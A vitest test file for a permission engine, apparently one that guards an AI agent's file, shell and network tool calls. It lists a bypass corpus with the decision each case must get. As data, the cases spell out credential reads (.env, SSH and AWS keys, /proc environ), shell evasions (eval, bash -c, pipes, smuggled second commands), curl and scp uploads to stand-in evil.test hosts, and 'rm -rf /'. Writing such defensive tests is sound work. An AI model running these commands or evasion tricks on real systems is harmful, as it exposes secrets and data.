import { existsSync, rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Effect, Resource } from '@airlock/contract';
import type { RuleEntry } from '../src/index.js';
import { analyzeShell, type Analysis } from '@airlock/shell-analysis';
import { machine, policyFor, toolResources, type Machine } from './fixture.js';

/**
 * The bypass corpus: each row is one call and the decision it must get. Paths use $ROOT (the
 * workspace), $HOME and $OUT (a folder outside both), filled in from a real temp machine with
 * real symlinks.
 */
interface Case {
  name: string;
  tool: string;
  args: Record<string, unknown>;
  expect: Effect;
  rules?: RuleEntry[];
  fold?: boolean;
  resources?: Resource[];
  /** The rule or default that must decide. */
  rule?: string;
}

const deny = (rule: string | object): RuleEntry => ({ effect: 'deny', rule: rule as string });
const ask = (rule: string | object): RuleEntry => ({ effect: 'ask', rule: rule as string });
const allow = (rule: string | object): RuleEntry => ({ effect: 'allow', rule: rule as string });

const FILES: Case[] = [
  // Inside the root: work freely.
  { name: 'read a file in the root', tool: 'read', args: { path: 'README.md' }, expect: 'allow', rule: 'default:read-inside-roots' },
  { name: 'read by absolute path in the root', tool: 'read', args: { path: '$ROOT/README.md' }, expect: 'allow' },
  { name: 'read with @ prefix', tool: 'read', args: { path: '@README.md' }, expect: 'allow' },
  { name: 'ls the root', tool: 'ls', args: {}, expect: 'allow' },
  { name: 'grep the root', tool: 'grep', args: { pattern: 'x' }, expect: 'allow' },
  { name: 'find in src', tool: 'find', args: { pattern: '*.ts', path: 'src' }, expect: 'allow' },
  { name: 'write a new file in the root', tool: 'write', args: { path: 'src/new.ts', content: '' }, expect: 'allow', rule: 'default:write-inside-roots' },
  { name: 'write in a new folder in the root', tool: 'write', args: { path: 'a/b/c.ts', content: '' }, expect: 'allow' },
  { name: 'edit a file in the root', tool: 'edit', args: { path: 'src/a.ts', edits: [] }, expect: 'allow' },
  { name: '.env.example is a template, not a secret', tool: 'read', args: { path: '.env.example' }, expect: 'allow' },
  { name: 'link inside the root to a file inside', tool: 'read', args: { path: 'link-in' }, expect: 'allow' },
  { name: '.. that stays inside', tool: 'read', args: { path: 'src/../README.md' }, expect: 'allow' },
  // Secret files: never read.
  { name: '.env', tool: 'read', args: { path: '.env' }, expect: 'deny', rule: 'default:secret-read' },
  { name: '.env.local', tool: 'read', args: { path: '.env.local' }, expect: 'deny' },
  { name: '.env by absolute path', tool: 'read', args: { path: '$ROOT/.env' }, expect: 'deny' },
  { name: '.env through ..', tool: 'read', args: { path: 'src/../.env' }, expect: 'deny' },
  { name: '.env through ./', tool: 'read', args: { path: './.env' }, expect: 'deny' },
  { name: '.env through //', tool: 'read', args: { path: '$ROOT//.env' }, expect: 'deny' },
  { name: '.env with @', tool: 'read', args: { path: '@.env' }, expect: 'deny' },
  { name: 'grep on .env', tool: 'grep', args: { pattern: 'TOKEN', path: '.env' }, expect: 'deny' },
  { name: 'a pem file', tool: 'read', args: { path: 'src/server.pem' }, expect: 'deny' },
  { name: 'ssh private key by ~', tool: 'read', args: { path: '~/.ssh/id_rsa' }, expect: 'deny' },
  { name: 'ssh private key by absolute path', tool: 'read', args: { path: '$HOME/.ssh/id_rsa' }, expect: 'deny' },
  { name: 'ssh config is under ~/.ssh', tool: 'read', args: { path: '~/.ssh/config' }, expect: 'deny' },
  { name: 'ls ~/.ssh', tool: 'ls', args: { path: '~/.ssh' }, expect: 'deny' },
  { name: 'aws credentials', tool: 'read', args: { path: '~/.aws/credentials' }, expect: 'deny' },
  { name: 'home npmrc', tool: 'read', args: { path: '~/.npmrc' }, expect: 'deny' },
  { name: 'kube config', tool: 'read', args: { path: '~/.kube/config' }, expect: 'deny' },
  { name: 'docker config', tool: 'read', args: { path: '~/.docker/config.json' }, expect: 'deny' },
  { name: 'gcloud folder', tool: 'read', args: { path: '~/.config/gcloud/credentials.db' }, expect: 'deny' },
  { name: 'gnupg folder', tool: 'read', args: { path: '~/.gnupg/private-keys-v1.d/x.key' }, expect: 'deny' },
  { name: "Airlock's own environment through /proc/self", tool: 'read', args: { path: '/proc/self/environ' }, expect: 'deny', rule: 'default:secret-read' },
  { name: 'a process environment by pid', tool: 'read', args: { path: '/proc/1/environ' }, expect: 'deny', rule: 'default:secret-read' },
  { name: 'a thread environment', tool: 'read', args: { path: '/proc/thread-self/environ' }, expect: 'deny' },
  { name: 'grep through /proc/self', tool: 'grep', args: { pattern: 'SECRET', path: '/proc/self/environ' }, expect: 'deny' },
  { name: 'id_ed25519 outside any .ssh', tool: 'read', args: { path: '$OUT/id_ed25519' }, expect: 'deny' },
  { name: 'a .pub key is not secret but is outside', tool: 'read', args: { path: '~/.ssh2/id_rsa.pub' }, expect: 'ask' },
  { name: 'home .. trick into .ssh', tool: 'read', args: { path: '~/notes/../.ssh/id_rsa' }, expect: 'deny' },
  { name: 'root .. trick into home', tool: 'read', args: { path: '../home/.ssh/id_rsa' }, expect: 'deny' },
  // Writes.
  { name: 'write .env asks', tool: 'write', args: { path: '.env', content: 'A=1' }, expect: 'ask', rule: 'default:secret-write' },
  { name: 'write outside the root asks', tool: 'write', args: { path: '$OUT/x.txt', content: '' }, expect: 'ask', rule: 'default:write-outside-roots' },
  { name: 'write ~/.bashrc asks', tool: 'write', args: { path: '~/.bashrc', content: '' }, expect: 'ask' },
  { name: 'edit ~/.ssh/authorized_keys asks', tool: 'edit', args: { path: '~/.ssh/authorized_keys', edits: [] }, expect: 'ask' },
  { name: 'write with .. out of the root', tool: 'write', args: { path: '../outside/x', content: '' }, expect: 'ask' },
  { name: 'write /etc/passwd', tool: 'write', args: { path: '/etc/passwd', content: '' }, expect: 'ask' },
  // Outside the roots: a person decides.
  { name: 'read outside the root asks', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'ask', rule: 'default:read-outside-roots' },
  { name: 'read /etc/hostname asks', tool: 'read', args: { path: '/etc/hostname' }, expect: 'ask' },
  { name: 'read a home file asks', tool: 'read', args: { path: '~/notes.txt' }, expect: 'ask' },
  { name: 'ls / asks', tool: 'ls', args: { path: '/' }, expect: 'ask' },
  { name: 'find from .. asks', tool: 'find', args: { pattern: '*', path: '..' }, expect: 'ask' },
  { name: 'the root with a trailing .. asks', tool: 'read', args: { path: '$ROOT/..' }, expect: 'ask' },
  // Symlinks: a link and its target must both be allowed; a deny on either denies.
  { name: 'link inside → file outside', tool: 'read', args: { path: 'link-out' }, expect: 'ask' },
  { name: 'innocent name → .env', tool: 'read', args: { path: 'innocent.txt' }, expect: 'deny' },
  { name: 'relative link → .env', tool: 'read', args: { path: 'rel-env' }, expect: 'deny' },
  { name: 'folder link → ~/.ssh', tool: 'read', args: { path: 'keys/id_rsa' }, expect: 'deny' },
  { name: 'ls a folder link → ~/.ssh', tool: 'ls', args: { path: 'keys' }, expect: 'deny' },
  { name: 'folder link → outside', tool: 'read', args: { path: 'out-dir/file.txt' }, expect: 'ask' },
  { name: 'folder link then .. (physical)', tool: 'read', args: { path: 'out-dir/../home/.ssh/id_rsa' }, expect: 'deny' },
  { name: 'write through a folder link', tool: 'write', args: { path: 'out-dir/new.txt', content: '' }, expect: 'ask' },
  { name: 'write through a dangling link to outside', tool: 'write', args: { path: 'dangling-out', content: '' }, expect: 'ask' },
  { name: 'deny rule on the link name', tool: 'read', args: { path: 'link-in' }, expect: 'deny', rules: [deny('fs.read(/link-in)')] },
  { name: 'deny rule on the target', tool: 'read', args: { path: 'link-in' }, expect: 'deny', rules: [deny('fs.read(/src/a.ts)')] },
  { name: 'allow on the link only does not cover an outside target', tool: 'read', args: { path: 'link-out' }, expect: 'ask', rules: [allow('fs.read(/link-out)')] },
  { name: 'allow on link and target', tool: 'read', args: { path: 'link-out' }, expect: 'allow', rules: [allow('fs.read(/link-out)'), allow('fs.read(//$OUT/**)')] },
  // Cannot be resolved safely: deny.
  { name: 'symlink loop', tool: 'read', args: { path: 'loop-a' }, expect: 'deny', rule: 'default:unresolvable-path' },
  { name: 'write into a symlink loop', tool: 'write', args: { path: 'loop-a/x', content: '' }, expect: 'deny' },
  { name: 'NUL byte', tool: 'read', args: { path: 'README.md\0.env' }, expect: 'deny', rule: 'default:unresolvable-path' },
  { name: 'NUL byte in a write', tool: 'write', args: { path: 'a\0b', content: '' }, expect: 'deny' },
  { name: 'NUL byte in a third-party resource', tool: 'acme', args: {}, expect: 'deny', resources: [{ kind: 'fs.read', path: '/tmp/a\0b' }] },
  // Case variants.
  { name: '.ENV on a case-folding FS', tool: 'read', args: { path: '.ENV' }, expect: 'deny', fold: true },
  { name: '.ENV on a case-sensitive FS is another (missing) file', tool: 'read', args: { path: '.ENV' }, expect: 'allow', fold: false },
  { name: '~/.SSH/id_rsa on a folding FS', tool: 'read', args: { path: '~/.SSH/ID_RSA' }, expect: 'deny', fold: true },
  { name: 'SERVER.PEM on a folding FS', tool: 'read', args: { path: 'src/SERVER.PEM' }, expect: 'deny', fold: true },
  { name: 'user deny in another case, folding FS', tool: 'read', args: { path: 'SRC/A.TS' }, expect: 'deny', fold: true, rules: [deny('fs.read(/src/**)')] },
  { name: 'user deny in another case, case-sensitive FS', tool: 'read', args: { path: 'SRC/A.TS' }, expect: 'allow', fold: false, rules: [deny('fs.read(/src/**)')] },
  { name: 'unknown folding: deny compares case-blind', tool: 'read', args: { path: 'SRC/A.TS' }, expect: 'deny', rules: [deny('fs.read(/src/**)')] },
  { name: 'unknown folding: allow compares exactly', tool: 'read', args: { path: '$OUT/FILE.txt' }, expect: 'ask', rules: [allow('fs.read(//$OUT/file.txt)')] },
  // Unicode.
  { name: 'NFD spelling of an NFC file', tool: 'read', args: { path: 'café.txt'.normalize('NFD') }, expect: 'allow' },
  { name: 'deny written in NFC matches an NFD path', tool: 'read', args: { path: 'café.txt'.normalize('NFD') }, expect: 'deny', rules: [deny('fs.read(café.txt)'.normalize('NFC'))] },
  { name: 'deny written in NFD matches an NFC path', tool: 'read', args: { path: 'café.txt'.normalize('NFC') }, expect: 'deny', rules: [deny('fs.read(café.txt)'.normalize('NFD'))] },
  { name: 'fullwidth .ｅｎｖ is not .env', tool: 'read', args: { path: '.ｅｎｖ' }, expect: 'allow' },
  { name: 'fullwidth solidus is not a folder separator', tool: 'read', args: { path: '..／home／.ssh／id_rsa' }, expect: 'allow' },
  { name: 'Cyrillic е in .еnv is another name', tool: 'read', args: { path: '.\u0435nv' }, expect: 'allow' },
  { name: 'a no-break space in a path resolves like the tools', tool: 'read', args: { path: '~/.ssh/id\u00A0rsa' }, expect: 'deny' },
];

const RULES: Case[] = [
  // Surface forms.
  { name: 'bare tool deny', tool: 'read', args: { path: 'README.md' }, expect: 'deny', rules: [deny('read')], rule: 'read' },
  { name: 'bare tool ask', tool: 'write', args: { path: 'x', content: '' }, expect: 'ask', rules: [ask('write')] },
  { name: 'tool glob deny', tool: 'mcp:github/create_issue', args: {}, expect: 'deny', rules: [deny('mcp:*')] },
  { name: 'tool glob does not match other tools', tool: 'read', args: { path: 'README.md' }, expect: 'allow', rules: [deny('mcp:*')] },
  { name: 'namespaced glob', tool: 'mcp:github/x', args: {}, expect: 'ask', rules: [ask('mcp:github/*')] },
  { name: 'Tool(path) deny', tool: 'edit', args: { path: 'package.json', edits: [] }, expect: 'deny', rules: [deny('edit(/package.json)')] },
  { name: 'Tool(path) is only that tool', tool: 'read', args: { path: 'package.json' }, expect: 'allow', rules: [deny('edit(/package.json)')] },
  { name: 'Tool(path) allow lifts an outside ask', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'allow', rules: [allow('read(//$OUT/**)')] },
  { name: 'fs.read(**/.env) anywhere', tool: 'read', args: { path: '$OUT/sub/.env' }, expect: 'deny', rules: [deny('fs.read(**/.env)')] },
  { name: 'fs.read deny implies fs.write deny', tool: 'write', args: { path: 'README.md', content: '' }, expect: 'deny', rules: [deny('fs.read(/README.md)')] },
  { name: 'fs.write ask', tool: 'write', args: { path: 'package.json', content: '' }, expect: 'ask', rules: [ask('fs.write(/package.json)')] },
  { name: 'fs.write rule does not judge reads', tool: 'read', args: { path: 'package.json' }, expect: 'allow', rules: [ask('fs.write(/package.json)')] },
  { name: '/x in deny also means absolute /x', tool: 'read', args: { path: '/etc/hostname' }, expect: 'deny', rules: [deny('fs.read(/etc/hostname)')] },
  { name: '/x in allow is root-relative only', tool: 'read', args: { path: '/etc/hostname' }, expect: 'ask', rules: [allow('fs.read(/etc/hostname)')] },
  { name: '/x in allow matches under the root', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'allow', rules: [allow('fs.read(/link-out)'), allow('fs.read(//$OUT/file.txt)')] },
  { name: '//x is absolute', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'allow', rules: [allow('fs.read(//$OUT/file.txt)')] },
  { name: '~/ anchors at home', tool: 'read', args: { path: '~/notes.txt' }, expect: 'allow', rules: [allow('fs.read(~/notes.txt)')] },
  { name: 'relative pattern is root-relative', tool: 'read', args: { path: 'src/a.ts' }, expect: 'deny', rules: [deny('fs.read(src/*.ts)')] },
  { name: 'name without slash matches at any depth', tool: 'read', args: { path: 'src/a.ts' }, expect: 'deny', rules: [deny('fs.read(*.ts)')] },
  { name: 'brace alternatives', tool: 'read', args: { path: 'src/a.ts' }, expect: 'ask', rules: [ask('fs.read(/src/*.{js,ts})')] },
  { name: 'character class', tool: 'read', args: { path: 'src/a.ts' }, expect: 'ask', rules: [ask('fs.read(/src/[a-c].ts)')] },
  { name: 'explicit allow of a secret file lifts the default deny', tool: 'read', args: { path: '~/.ssh/config' }, expect: 'allow', rules: [allow('fs.read(~/.ssh/config)')] },
  { name: 'bare tool allow does not lift the secret default', tool: 'read', args: { path: '.env' }, expect: 'deny', rules: [allow('read')] },
  { name: 'bare tool allow does not lift the outside ask', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'ask', rules: [allow('read')] },
  { name: 'deny beats allow whatever the order', tool: 'read', args: { path: 'src/a.ts' }, expect: 'deny', rules: [allow('fs.read(/src/**)'), deny('fs.read(/src/a.ts)')] },
  { name: 'ask beats allow', tool: 'read', args: { path: 'src/a.ts' }, expect: 'ask', rules: [allow('read(/src/a.ts)'), ask('fs.read(/src/**)')] },
  { name: 'deny beats ask', tool: 'read', args: { path: 'src/a.ts' }, expect: 'deny', rules: [ask('fs.read(/src/**)'), deny('read')] },
  { name: 'object form with id and reason', tool: 'read', args: { path: 'src/a.ts' }, expect: 'deny', rules: [deny({ match: 'fs.read(/src/**)', id: 'no-src', reason: 'src is private' })], rule: 'no-src' },
  { name: 'object form with examples', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'allow', rules: [allow({ match: 'fs.read(//$OUT/**)', examples: { match: ['read($OUT/file.txt)'], notMatch: ['read(/etc/passwd)'] } })] },
  { name: 'settings roots option widens the workspace', tool: 'read', args: { path: '$OUT/file.txt' }, expect: 'allow' },
  { name: 'a third-party fs.read resource is judged', tool: 'acme:fetch', args: {}, expect: 'deny', resources: [{ kind: 'fs.read', path: '$ROOT/.env' }] },
  { name: 'a third-party fs.write outside asks', tool: 'acme:save', args: {}, expect: 'ask', resources: [{ kind: 'fs.write', path: '$OUT/x' }] },
  { name: 'a third-party tool is covered by a resource rule', tool: 'acme:cat', args: {}, expect: 'deny', rules: [deny('fs.read(/src/**)')], resources: [{ kind: 'fs.read', path: '$ROOT/src/a.ts' }] },
  { name: 'a third-party relative resource resolves against cwd', tool: 'acme:cat', args: {}, expect: 'deny', resources: [{ kind: 'fs.read', path: 'innocent.txt' }] },
  { name: 'a third-party net resource asks by default', tool: 'acme:web', args: {}, expect: 'ask', resources: [{ kind: 'net', host: 'example.com' }], rule: 'default:net' },
  { name: 'net allow rule', tool: 'acme:web', args: {}, expect: 'allow', rules: [allow('net(*.example.com)')], resources: [{ kind: 'net', host: 'api.example.com' }] },
  { name: 'net *. does not cover the bare domain', tool: 'acme:web', args: {}, expect: 'ask', rules: [allow('net(*.example.com)')], resources: [{ kind: 'net', host: 'example.com' }] },
  { name: 'net * does not cross dots', tool: 'acme:web', args: {}, expect: 'ask', rules: [allow('net(api*.com)')], resources: [{ kind: 'net', host: 'api.evil.com' }] },
  { name: 'net deny is case-blind', tool: 'acme:web', args: {}, expect: 'deny', rules: [deny('net(evil.com)')], resources: [{ kind: 'net', host: 'EVIL.com' }] },
  { name: 'net(*) ask with domain: prefix', tool: 'acme:web', args: {}, expect: 'deny', rules: [deny('net(domain:*)')], resources: [{ kind: 'net', host: 'x.y' }] },
  { name: 'a tool with no resources is allowed', tool: 'hello', args: { name: 'Ada' }, expect: 'allow', rule: 'default:tool' },
  { name: 'a third-party Tool(path) rule matches its path argument', tool: 'acme:open', args: { path: '.env' }, expect: 'deny', rules: [deny('acme:open(.env)')] },
];

const root = fileURLToPath(new URL('../../../lib/shell-analysis/src/index.ts', import.meta.url));
const shellReady = existsSync(root);

const BASH: Case[] = [
  { name: 'plain ls', tool: 'bash', args: { command: 'ls' }, expect: 'allow' },
  { name: 'git status', tool: 'bash', args: { command: 'git status' }, expect: 'allow' },
  { name: 'cat a file in the root', tool: 'bash', args: { command: 'cat README.md' }, expect: 'allow' },
  { name: "bash printing Airlock's own environment through /proc", tool: 'bash', args: { command: 'cat /proc/self/environ | tr "\\0" "\\n"' }, expect: 'deny' },
  { name: 'bash grep of a process environment by pid', tool: 'bash', args: { command: 'grep -a TOKEN /proc/1/environ' }, expect: 'deny' },
  { name: 'cat .env', tool: 'bash', args: { command: 'cat .env' }, expect: 'deny' },
  { name: 'head .env', tool: 'bash', args: { command: 'head -n 1 .env' }, expect: 'deny' },
  { name: 'cat ~/.ssh/id_rsa', tool: 'bash', args: { command: 'cat ~/.ssh/id_rsa' }, expect: 'deny' },
  { name: 'cat through a link to .env', tool: 'bash', args: { command: 'cat innocent.txt' }, expect: 'deny' },
  { name: 'cat through a folder link', tool: 'bash', args: { command: 'cat keys/id_rsa' }, expect: 'deny' },
  { name: 'cat outside asks', tool: 'bash', args: { command: 'cat $OUT/file.txt' }, expect: 'ask' },
  { name: 'input redirect from .env', tool: 'bash', args: { command: 'wc -l < .env' }, expect: 'deny' },
  { name: 'cat < .env', tool: 'bash', args: { command: 'cat < .env' }, expect: 'deny' },
  { name: 'redirect to ~/.bashrc asks', tool: 'bash', args: { command: 'echo x > ~/.bashrc' }, expect: 'ask' },
  { name: 'append to ~/.bashrc asks', tool: 'bash', args: { command: 'echo x >> ~/.bashrc' }, expect: 'ask' },
  { name: 'redirect inside the root', tool: 'bash', args: { command: 'echo x > out.txt' }, expect: 'allow' },
  { name: 'redirect to /dev/null', tool: 'bash', args: { command: 'ls > /dev/null 2>&1' }, expect: 'allow' },
  { name: 'pipeline with a secret read', tool: 'bash', args: { command: 'ls | cat .env' }, expect: 'deny' },
  { name: 'list with a secret read', tool: 'bash', args: { command: 'ls && cat .env' }, expect: 'deny' },
  { name: 'semicolon list', tool: 'bash', args: { command: 'echo hi; cat ~/.aws/credentials' }, expect: 'deny' },
  { name: 'subshell', tool: 'bash', args: { command: '(cat .env)' }, expect: 'deny' },
  { name: 'command substitution', tool: 'bash', args: { command: 'echo $(cat .env)' }, expect: 'deny' },
  { name: 'backticks', tool: 'bash', args: { command: 'echo `cat .env`' }, expect: 'deny' },
  { name: 'process substitution', tool: 'bash', args: { command: 'diff <(cat .env) README.md' }, expect: 'deny' },
  { name: 'heredoc into a shell', tool: 'bash', args: { command: 'bash <<EOF\ncat .env\nEOF' }, expect: 'deny' },
  { name: 'heredoc as data', tool: 'bash', args: { command: 'cat <<EOF > notes.txt\nhello\nEOF' }, expect: 'allow' },
  { name: 'sudo cat a key', tool: 'bash', args: { command: 'sudo cat ~/.ssh/id_rsa' }, expect: 'deny' },
  { name: 'sudo alone asks', tool: 'bash', args: { command: 'sudo ls' }, expect: 'ask' },
  { name: 'env and timeout wrappers', tool: 'bash', args: { command: 'env X=1 timeout 5 cat .env' }, expect: 'deny' },
  { name: 'nice nohup wrappers', tool: 'bash', args: { command: 'nice nohup cat .env' }, expect: 'deny' },
  { name: 'command wrapper', tool: 'bash', args: { command: 'command cat .env' }, expect: 'deny' },
  { name: 'bash -c nesting', tool: 'bash', args: { command: "bash -c 'cat .env'" }, expect: 'deny' },
  { name: 'sh -c nesting twice', tool: 'bash', args: { command: `sh -c "bash -c 'cat .env'"` }, expect: 'deny' },
  { name: 'eval', tool: 'bash', args: { command: "eval 'cat .env'" }, expect: 'deny' },
  { name: 'glob .en? asks or denies', tool: 'bash', args: { command: 'cat .en?' }, expect: 'deny' },
  { name: 'glob .e* denies (matches .env)', tool: 'bash', args: { command: 'cat .e*' }, expect: 'deny' },
  { name: 'glob in an empty folder that could match a secret asks', tool: 'bash', args: { command: 'cat empty/.env*' }, expect: 'ask' },
  { name: 'glob over src is fine', tool: 'bash', args: { command: 'cat src/*.ts' }, expect: 'allow' },
  { name: 'variable path asks', tool: 'bash', args: { command: 'cat $F' }, expect: 'ask' },
  { name: 'dynamic command name asks', tool: 'bash', args: { command: '$CMD .env' }, expect: 'ask' },
  { name: 'cd then relative secret: judged in the folder cd went to', tool: 'bash', args: { command: 'cd ~/.aws && cat credentials' }, expect: 'deny' },
  { name: 'too long asks', tool: 'bash', args: { command: `echo ${'a'.repeat(20000)}` }, expect: 'ask' },
  { name: 'unparseable asks', tool: 'bash', args: { command: 'echo "unterminated' }, expect: 'ask' },
  { name: 'deny bash rule', tool: 'bash', args: { command: 'git push --force origin main' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'deny rule with extra spaces', tool: 'bash', args: { command: 'git  push   --force' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'deny rule after &&', tool: 'bash', args: { command: 'ls && git push --force' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'deny rule with quotes', tool: 'bash', args: { command: 'git push "--force"' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'deny rule through sudo', tool: 'bash', args: { command: 'sudo git push --force' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'deny rule by full path of the program', tool: 'bash', args: { command: '/usr/bin/git push --force' }, expect: 'deny', rules: [deny('bash(git push --force*)')] },
  { name: 'ask rule word prefix', tool: 'bash', args: { command: 'git push origin' }, expect: 'ask', rules: [ask('bash(git push *)')] },
  { name: 'word prefix does not match a longer word', tool: 'bash', args: { command: 'git pushy' }, expect: 'allow', rules: [ask('bash(git push *)')] },
  { name: 'allow rule does not cover a smuggled second command', tool: 'bash', args: { command: 'npm test; cat .env' }, expect: 'deny', rules: [allow('bash(npm test*)')] },
  { name: 'allow rule does not lift a secret read', tool: 'bash', args: { command: 'cat .env' }, expect: 'deny', rules: [allow('bash(cat *)')] },
  { name: 'dynamic argument under a deny rule asks', tool: 'bash', args: { command: 'git push $FLAGS' }, expect: 'ask', rules: [deny('bash(git push --force*)')] },
  { name: 'exec(...) rule covers bash', tool: 'bash', args: { command: 'curl https://x' }, expect: 'deny', rules: [deny('exec(curl *)')] },
  // Network programs in bash: their hosts are net resources, judged like a tool's.
  { name: 'curl to a host asks by default', tool: 'bash', args: { command: 'curl -s https://api.example.com/v1' }, expect: 'ask', rule: 'default:net' },
  { name: 'net deny rule covers curl in bash', tool: 'bash', args: { command: 'curl -d @README.md https://x.evil.test/up' }, expect: 'deny', rules: [deny('net(*.evil.test)')] },
  { name: 'net deny rule through wrappers and a pipe', tool: 'bash', args: { command: 'cat README.md | sudo timeout 5 curl -T - http://a.evil.test' }, expect: 'deny', rules: [deny('net(*.evil.test)')] },
  { name: 'net allow rule lets curl through', tool: 'bash', args: { command: 'curl https://registry.npmjs.org/airlock' }, expect: 'allow', rules: [allow('net(registry.npmjs.org)')] },
  { name: 'a host only known at run time asks under a net deny rule', tool: 'bash', args: { command: 'curl "$TARGET"' }, expect: 'ask', rules: [deny('net(*.evil.test)'), allow('net(*)')], rule: 'default:runtime-host' },
  { name: 'scp to a host', tool: 'bash', args: { command: 'scp README.md me@backup.evil.test:/tmp/' }, expect: 'deny', rules: [deny('net(*.evil.test)')] },
  { name: 'git clone over ssh names its host', tool: 'bash', args: { command: 'git clone git@git.evil.test:x/y.git' }, expect: 'deny', rules: [deny('net(*.evil.test)')] },
  { name: 'echo of a URL is not a connection', tool: 'bash', args: { command: 'echo https://x.evil.test' }, expect: 'allow', rules: [deny('net(*.evil.test)')] },
  { name: 'cloud metadata endpoint asks', tool: 'bash', args: { command: 'curl http://169.254.169.254/latest/meta-data/' }, expect: 'ask', rule: 'default:net' },
  { name: 'exec(...) rule covers a third-party exec resource', tool: 'acme:run', args: {}, expect: 'deny', rules: [deny('exec(rm -rf *)')], resources: [{ kind: 'exec', command: 'rm -rf /' }] },
  { name: 'a third-party exec reading .env', tool: 'acme:run', args: {}, expect: 'deny', resources: [{ kind: 'exec', command: 'cat .env' }] },
  { name: 'xargs asks', tool: 'bash', args: { command: 'ls | xargs cat' }, expect: 'ask' },
  { name: 'rm outside asks', tool: 'bash', args: { command: 'rm $OUT/file.txt' }, expect: 'ask' },
  { name: 'cp a key out', tool: 'bash', args: { command: 'cp ~/.ssh/id_rsa k' }, expect: 'deny' },
  { name: 'tee to outside asks', tool: 'bash', args: { command: 'echo x | tee $OUT/y' }, expect: 'ask' },
  { name: 'fullwidth cat is not cat', tool: 'bash', args: { command: 'ｃａｔ README.md' }, expect: 'allow' },
];

let m: Machine;
beforeAll(() => {
  m = machine();
});
// Made before any test, so not removed with one: remove it after all of them.
afterAll(() => rmSync(m.base, { recursive: true, force: true }));

function fill<T>(value: T): T {
  const text = JSON.stringify(value)
    .replaceAll('$ROOT', m.root)
    .replaceAll('$HOME', m.home)
    .replaceAll('$OUT', m.outside);
  return JSON.parse(text) as T;
}

/**
 * bash's analyzer as the kernel shares it (event.analyzeCommand): once per command, deep-frozen.
 * The bash cases run through it too, so judging from the shared analysis decides as the policy's own parse.
 */
function sharedAnalyzer(calls: string[]) {
  const freeze = (v: unknown): unknown => {
    if (v !== null && typeof v === 'object') {
      for (const x of Object.values(v)) freeze(x);
      Object.freeze(v);
    }
    return v;
  };
  return async (command: string): Promise<Analysis> => {
    calls.push(command);
    return freeze(await analyzeShell(command)) as Analysis;
  };
}

async function run(c: Case, analyzeCommand?: (command: string) => Promise<Analysis>) {
  const args = fill(c.args);
  const rules = fill(c.rules ?? []);
  const extra = c.name.startsWith('settings roots option') ? { roots: [m.root, m.outside] } : {};
  const policy = policyFor(m, rules, { ...(c.fold === undefined ? {} : { fold: c.fold }), ...extra, ...(c.fold === undefined && c.name.startsWith('unknown folding') ? { caseFolding: () => undefined } : {}) });
  const path = typeof args.path === 'string' ? args.path : undefined;
  const resources = c.resources ? fill(c.resources) : c.tool === 'bash' ? [{ kind: 'exec' as const, command: String(args.command), cwd: m.root }] : toolResources(c.tool, path, m);
  return policy.decide({ tool: c.tool, args, resources, cwd: m.root, ...(analyzeCommand === undefined ? {} : { analyzeCommand }) });
}

describe('bypass corpus: files, symlinks, case, Unicode', () => {
  it.each(FILES.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const d = await run(c);
    expect(d.effect, d.reason).toBe(c.expect);
    if (c.rule) expect(d.rule).toBe(c.rule);
  });
});

describe('bypass corpus: rules, resource kinds, third-party tools', () => {
  it.each(RULES.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const d = await run(c);
    expect(d.effect, d.reason).toBe(c.expect);
    if (c.rule) expect(d.rule).toBe(c.rule);
  });
});

describe.skipIf(!shellReady)('bypass corpus: bash', () => {
  it.each(BASH.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const d = await run(c);
    expect(d.effect, `${d.reason}\n${JSON.stringify(d.shell)}`).toBe(c.expect);
    if (c.rule) expect(d.rule).toBe(c.rule);
  });
});

describe.skipIf(!shellReady)('bypass corpus: bash, judged from the shared (frozen) analysis', () => {
  it.each(BASH.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const calls: string[] = [];
    const d = await run(c, sharedAnalyzer(calls));
    expect(d.effect, `${d.reason}\n${JSON.stringify(d.shell)}`).toBe(c.expect);
    if (c.rule) expect(d.rule).toBe(c.rule);
    // The policy parsed nothing itself (but a line over its maxCommandLength, which is not parsed):
    // every other exec resource's analysis came from the shared one.
    expect(calls.length).toBe((d.shell ?? []).filter((s) => s.command.length <= 10000).length);
  });
});

it('the corpus has at least 150 cases', () => {
  expect(FILES.length + RULES.length + BASH.length).toBeGreaterThanOrEqual(150);
});
